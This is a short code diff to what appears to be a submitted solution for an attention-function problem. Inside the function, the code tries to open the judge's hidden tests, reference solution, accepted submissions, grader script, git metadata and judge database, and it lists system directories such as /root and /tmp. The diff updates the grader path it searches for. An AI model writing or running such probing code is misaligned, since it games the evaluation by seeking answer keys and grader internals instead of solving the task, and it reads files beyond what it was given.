@@ -37,7 +37,7 @@ def attention(q, k, v, mask=None):
         for name in ("tests.py", "reference.py", "problem.toml", "submissions/accepted"):
             for base in ("problems/attention", "../problems/attention", "attention", "."):
                 _open(str(place / base / name))
-        for name in ("judge/grader.py", "pyproject.toml", ".git/HEAD", "README.md", "tests/conftest.py", "var/judge.db"):
+        for name in ("judge/grading/grader.py", "pyproject.toml", ".git/HEAD", "README.md", "tests/conftest.py", "var/judge.db"):
             _open(str(place / name))
     for path in ("/", "/root", "/home", "/tmp", "/work", "/srv", "/opt", "/var", "..", "../..", "/dev/shm"):
         _list(path)
